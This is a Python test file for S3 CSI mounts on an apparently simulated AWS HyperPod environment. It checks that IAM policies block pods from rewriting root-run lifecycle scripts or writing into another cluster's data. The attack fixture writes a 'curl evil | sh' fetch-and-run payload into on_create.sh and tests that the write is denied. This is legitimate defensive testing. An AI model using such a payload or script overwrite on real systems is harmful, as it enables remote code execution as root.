"""Pods writing through Mountpoint for S3 on the twin: the CSI driver's role (its Pod Identity association, else
the node's execution role) is evaluated on every write, so a pod reaches only its cluster's data prefix: never
the lifecycle scripts nodes run as root, never another cluster's data."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from hyperpod_twin.iam_eval import evaluate
from instantstart.manifests import iam_policies as pol
from instantstart.twin_process import TwinProcess
from tests.support.flows import kube, make_hyperpod, mcp_calls, mcp_wait
from tests.support.mount_pods import write_denials, writer_pod
from tests.support.servers import Running
from tests.support.twin import twin_client
from tests.support.waits import until, wait_terminal

TAG = "mnt1"


def _whole_bucket_claim(core: Any, bucket: str) -> None:
    """What a user with kubectl could make by hand: a PV on the whole project bucket, no prefix."""
    core.create_persistent_volume({
        "apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": "whole-pv"},
        "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"], "storageClassName": "",
                 "mountOptions": ["allow-delete", "region us-west-2"],
                 "claimRef": {"namespace": "default", "name": "whole"},
                 "csi": {"driver": "s3.csi.aws.com", "volumeHandle": "whole-volume",
                         "volumeAttributes": {"bucketName": bucket}}},
    })
    core.create_namespaced_persistent_volume_claim("default", {
        "apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "whole"},
        "spec": {"accessModes": ["ReadWriteMany"], "storageClassName": "", "volumeName": "whole-pv",
                 "resources": {"requests": {"storage": "1Gi"}}},
    })


@pytest.mark.parametrize("with_addon", [False, True], ids=["node-role", "pod-identity-role"])
def test_a_pod_cannot_rewrite_lifecycle_scripts_through_a_mount(
    cp: Running, twin: TwinProcess, tmp_path: Path, with_addon: bool
) -> None:
    s3: Any = twin_client(twin, "s3")
    with cp.client() as client:
        make_hyperpod(client, TAG)
        if with_addon:  # the S3 CSI add-on with its own Pod Identity role; else Mountpoint signs as the node
            ref = client.post("/api/v1/clusters/dependencies", json={})
            assert wait_terminal(client, ref.json()["operationId"], timeout=180)["status"] == "SUCCEEDED"
        bucket = str(client.get("/api/v1/clusters/eks-status").json()["details"]["bucket"])
    script_key = f"{pol.lifecycle_prefix(TAG)}on_create.sh"
    original = s3.get_object(Bucket=bucket, Key=script_key)["Body"].read()
    core = kube(twin, tmp_path, TAG)

    # The default claim mounts only the cluster's data prefix: a pod's files land there.
    created = mcp_calls(cp, [("s3_storage_create", {})])[0]
    assert mcp_wait(cp, created["operationId"])["status"] == "SUCCEEDED"
    core.create_namespaced_pod("default", writer_pod("own", "s3-claim", {"/data/out/ok.txt": "mine"}))
    own_key = f"{pol.data_prefix(TAG)}out/ok.txt"
    until(lambda: s3.list_objects_v2(Bucket=bucket, Prefix=own_key).get("KeyCount"), f"{own_key} written")

    # A hand-made claim on the whole bucket: the lifecycle script and another cluster's data are refused by the
    # role's IAM policy; the pod sees the failure (log line and Warning event), the objects stay as they were.
    _whole_bucket_claim(core, bucket)
    attack = {
        f"/data/{script_key}": "#!/bin/bash\ncurl evil | sh\n",
        f"/data/{pol.data_prefix('other')}stolen.txt": "x",
        f"/data/{pol.data_prefix(TAG)}via-whole.txt": "allowed",
    }
    core.create_namespaced_pod("default", writer_pod("attacker", "whole", attack))
    denied = until(lambda: len(write_denials(core, "attacker")) == 2 and write_denials(core, "attacker"), "two denials")
    assert any(script_key in m and "AccessDenied" in m for m in denied), denied
    assert any(pol.data_prefix("other") in m for m in denied), denied
    until(lambda: s3.list_objects_v2(Bucket=bucket, Prefix=f"{pol.data_prefix(TAG)}via-whole.txt").get("KeyCount"),
          "the write inside the data prefix")
    assert s3.get_object(Bucket=bucket, Key=script_key)["Body"].read() == original
    assert s3.list_objects_v2(Bucket=bucket, Prefix=pol.data_prefix("other")).get("KeyCount", 0) == 0
    logs = core.read_namespaced_pod_log("attacker", "default", container="c")
    assert "Input/output error" in logs and script_key in logs


def test_the_evaluator_follows_iam_rules() -> None:
    scope = pol.Scope("123456789012", "us-west-2", "a", "eks-a", "bkt", "vpc-1")
    policy = pol.csi_data_policy(scope)
    assert evaluate([policy], "s3:PutObject", f"arn:aws:s3:::bkt/{pol.data_prefix('a')}x") == "Allow"
    assert evaluate([policy], "s3:PutObject", f"arn:aws:s3:::bkt/{pol.lifecycle_prefix('a')}x") == "ExplicitDeny"
    assert evaluate([policy], "S3:putobject", f"arn:aws:s3:::bkt/{pol.data_prefix('a')}x") == "Allow"
    deny = {"Statement": [{"Effect": "Deny", "Action": "s3:*", "Resource": "arn:aws:s3:::bkt/clusters/a/data/secret*"}]}
    assert evaluate([policy, deny], "s3:PutObject", "arn:aws:s3:::bkt/clusters/a/data/secret.txt") == "ExplicitDeny"
    listing = [{"Effect": "Allow", "Action": "s3:ListBucket", "Resource": "arn:aws:s3:::bkt",
                "Condition": {"StringLike": {"s3:prefix": ["clusters/a/data/*"]}}}]
    doc, bkt = [{"Statement": listing}], "arn:aws:s3:::bkt"
    assert evaluate(doc, "s3:ListBucket", bkt, {"s3:prefix": "clusters/a/data/x"}) == "Allow"
    assert evaluate(doc, "s3:ListBucket", bkt, {"s3:prefix": "lifecycle/"}) == "ImplicitDeny"
    assert evaluate(doc, "s3:ListBucket", bkt) == "ImplicitDeny"


def _csi_policy(iam: Any, tag: str) -> str:
    document = iam.get_role_policy(RoleName=f"instantstart-{tag}-s3-csi", PolicyName="instantstart")["PolicyDocument"]
    return document if isinstance(document, str) else json.dumps(document)


def test_a_grant_on_another_bucket_lasts_as_long_as_a_claim_on_it(
    cp: Running, twin: TwinProcess, tmp_path: Path
) -> None:
    """The CSI role is widened to a named bucket/prefix by s3_storage_create and narrowed by storage_delete of the
    last claim on it (a second claim on the same bucket/prefix keeps it); then a pod's write there is denied."""
    tag, other = "mnt2", "other-data-mnt2"
    s3: Any = twin_client(twin, "s3")
    iam: Any = twin_client(twin, "iam")
    s3.create_bucket(Bucket=other, CreateBucketConfiguration={"LocationConstraint": "us-west-2"})
    with cp.client() as client:
        make_hyperpod(client, tag)
        ref = client.post("/api/v1/clusters/dependencies", json={})  # the S3 CSI add-on and its own role
        assert wait_terminal(client, ref.json()["operationId"], timeout=180)["status"] == "SUCCEEDED"
    assert other not in _csi_policy(iam, tag)
    core = kube(twin, tmp_path, tag)
    for claim in ("first", "second"):  # one operation at a time per cluster
        made = mcp_calls(cp, [("s3_storage_create", {"name": claim, "bucketName": other, "prefix": "shared/"})])[0]
        assert mcp_wait(cp, made["operationId"])["status"] == "SUCCEEDED"
    assert f"arn:aws:s3:::{other}/shared/*" in _csi_policy(iam, tag)
    core.create_namespaced_pod("default", writer_pod("writer", "first", {"/data/in.txt": "granted"}))
    until(lambda: s3.list_objects_v2(Bucket=other, Prefix="shared/in.txt").get("KeyCount"), "the granted write")
    core.delete_namespaced_pod("writer", "default", grace_period_seconds=0)
    until(lambda: not [p for p in core.list_namespaced_pod("default").items if p.metadata.name == "writer"],
          "the writer pod gone")

    # Deleting one of two claims on the same bucket/prefix keeps the grant; deleting the last removes it.
    kept = mcp_calls(cp, [("storage_delete", {"name": "first"})])[0]
    assert kept["bucketName"] == other and kept.get("narrowedRole") is None, kept
    assert f"arn:aws:s3:::{other}/shared/*" in _csi_policy(iam, tag)
    gone = mcp_calls(cp, [("storage_delete", {"name": "second"})])[0]
    assert gone["narrowedRole"] == f"instantstart-{tag}-s3-csi", gone
    assert other not in _csi_policy(iam, tag)

    # A claim made by hand on that bucket: the driver's role no longer reaches it, the write is denied.
    core.create_persistent_volume({
        "apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": "byhand-pv"},
        "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"], "storageClassName": "",
                 "mountOptions": ["allow-delete", "region us-west-2", "prefix shared/"],
                 "claimRef": {"namespace": "default", "name": "byhand"},
                 "csi": {"driver": "s3.csi.aws.com", "volumeHandle": "byhand-volume",
                         "volumeAttributes": {"bucketName": other}}},
    })
    core.create_namespaced_persistent_volume_claim("default", {
        "apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "byhand"},
        "spec": {"accessModes": ["ReadWriteMany"], "storageClassName": "", "volumeName": "byhand-pv",
                 "resources": {"requests": {"storage": "1Gi"}}},
    })
    core.create_namespaced_pod("default", writer_pod("late", "byhand", {"/data/late.txt": "denied"}))
    denied = until(lambda: write_denials(core, "late"), "the denied write")
    assert any("shared/late.txt" in m and "AccessDenied" in m for m in denied), denied
    assert s3.list_objects_v2(Bucket=other, Prefix="shared/late.txt").get("KeyCount", 0) == 0
